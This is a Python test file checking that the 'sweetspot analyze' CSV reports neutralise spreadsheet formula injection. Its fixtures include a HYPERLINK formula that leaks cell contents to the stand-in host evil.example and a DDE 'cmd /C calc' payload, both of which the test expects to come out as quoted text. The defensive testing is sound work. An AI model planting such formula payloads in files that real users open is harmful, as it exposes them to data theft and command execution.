"""Every CSV `sweetspot analyze` writes keeps spreadsheet formulas in label names and error lines
from running: a label named `=HYPERLINK(...)` shows as text (analysis/export.py)."""

from __future__ import annotations

import csv
import subprocess
import sys

from sweetspot.analysis.export import FORMULA_STARTS
from tests.analysis_tests.folders import FLOOR, row, trial, write_prepared, write_results
from tests.conftest import REPO

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_a_label_named_like_a_formula_is_text_in_every_csv(tmp_path):
    docs = [([101, 10, 102], [0]), ([101, 11, 102], [1]), ([101, 10, 11, 102], [0, 1])]
    prepared = write_prepared(
        tmp_path / "prepared",
        [(FORMULA, 3), ("@SUM(1+1)", 2), ("plain", 1)],
        {"train": docs, "validation": docs, "test": docs},
        majority=0,
    )
    collapsed = [row(1, FLOOR, entropy=0.0, top=0), row(2, FLOOR, entropy=0.0, top=0)]
    folder = write_results(
        tmp_path / "results" / "exp",
        [
            trial("a1", "adam", 1e-4, [0.50, 0.60]),
            trial("a2", "adam", 1e-1, rows=collapsed),
            trial("e1", "adam", 1e-3, [0.4], status="errored", error="+cmd|' /C calc'!A0"),
        ],
        epochs=2,
        prepared=prepared,
    )
    run = subprocess.run(
        [sys.executable, "-m", "sweetspot.cli", "analyze", str(folder), "--no-baselines", "--no-attention"],
        capture_output=True,
        text=True,
        cwd=REPO,
        timeout=180,
    )
    assert run.returncode == 0, run.stderr
    with open(folder / "report" / "trials.csv", newline="") as f:
        trials = {t["trial_id"]: t for t in csv.DictReader(f)}
    assert trials["a2"]["collapsed_onto"] == f"'{FORMULA} (id 0)"  # the label, as text
    assert trials["e1"]["error"] == "'+cmd|' /C calc'!A0"
    for name in ("trials.csv", "epochs.csv"):
        with open(folder / "report" / name, newline="") as f:
            cells = [cell for line in csv.reader(f) for cell in line]
        assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)], name


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False
